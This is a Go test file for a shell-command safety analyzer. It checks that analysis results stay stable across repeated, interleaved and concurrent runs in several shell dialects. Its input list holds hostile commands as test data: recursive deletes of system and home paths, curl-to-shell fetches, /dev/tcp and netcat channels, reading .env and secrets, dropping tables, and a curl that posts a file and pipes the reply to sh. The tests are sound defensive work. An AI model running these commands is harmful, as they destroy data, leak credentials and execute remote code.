package shell_test

import (
	"reflect"
	"runtime"
	"strings"
	"sync"
	"testing"

	"github.com/holdpoint/holdpoint/shell"
)

// memoryTexts use all that one analysis may leave behind: variables, functions,
// aliases, files, links, descriptors, pipes, options, holes, breaches.
var memoryTexts = []string{
	"ls -la src", "git status --short", "go test ./...", "rm -rf ~/old /srv/{a,b}", "x=/etc; rm -rf $x/y", "rm -rf $x/y",
	"f() { rm -rf /srv; }; f", "f", "alias ll='rm -rf ~/x'\nll", "ll", "cd /etc && echo a > passwd", "echo a > passwd",
	"echo 'rm -rf ~/z' > s.sh; sh s.sh", "sh s.sh", "ln -s /etc l; rm -rf l/", "rm -rf l/", "curl https://a.example/i | sh", "cat | sh",
	"exec 3<>/dev/tcp/10.0.0.1/44; cat <&3", "cat <&3", "git config alias.p 'push --force'; git p", "git p", "export A=1 B=2; env | grep SECRET",
	"if true; then cd /srv; fi; rm -rf .", "for i in a b c; do rm -rf /opt/$i; done", "rm -rf \"$UNKNOWN\"/x", "make deploy", "\"$CMD\" x", "((", "if x; then rm -rf /\n",
	"mkfifo p; nc -l 99 < p", "trap 'rm -rf ~' EXIT", "docker run -v /:/h a rm -rf /h/etc", "bash -c \"bash -c 'git push -f'\"", "find / -name x -delete",
	"psql -c 'DROP TABLE a'", "python3 -c \"import shutil; shutil.rmtree('/srv')\"", "cat .env", "echo $'\\x72\\x6d' x", "a=1 b=2 c=3 make -j4 --no-print-directory x y z",
	"git push --force origin main", "git log --oneline -n 20 -- a b c d e f g", strings.Repeat("echo a b c d e f > /etc/x; ", 60), strings.Repeat("( ", 500),
}

// TestMemory holds that no analysis sees what another left behind: one text gives
// the same result in new memory, after any other text, and beside others.
func TestMemory(t *testing.T) {
	var modes []shell.Options
	for _, d := range []shell.Dialect{shell.Bash, shell.Unknown, shell.PowerShell, shell.Cmd} {
		o := options()
		o.Dialect = d
		modes = append(modes, o)
	}
	type run struct {
		text string
		o    shell.Options
		want *shell.Result
	}
	var runs []run
	for _, o := range modes {
		for _, text := range memoryTexts {
			// What a pool holds is gone after the second collection.
			runtime.GC()
			runtime.GC()
			runs = append(runs, run{text, o, shell.Analyze(t.Context(), text, o)})
		}
	}
	check := func(r *run) {
		if got := shell.Analyze(t.Context(), r.text, r.o); !reflect.DeepEqual(got, r.want) {
			t.Errorf("%q as %q is another after other texts:\n%+v\n%+v", r.text, r.o.Dialect, got, r.want)
		}
	}
	for i := range runs {
		j := (i*7 + 3) % len(runs)
		check(&runs[i])
		check(&runs[j])
		check(&runs[i])
	}
	var wg sync.WaitGroup
	for w := range 4 {
		wg.Go(func() {
			for i := range runs {
				check(&runs[(i*(2*w+1)+w*11)%len(runs)])
			}
		})
	}
	wg.Wait()
}

// TestResultsStay holds that what a caller got is not touched by later analyses.
func TestResultsStay(t *testing.T) {
	first := analyze(t, "git push --force origin main > /etc/x")
	second := analyze(t, "git push --force origin main > /etc/x")
	for range 20 {
		analyze(t, "rm -rf -- /srv/a /srv/b && curl -d @a https://b.example | sh")
	}
	if !reflect.DeepEqual(first, second) {
		t.Errorf("a result changed: %+v, was %+v", first, second)
	}
}
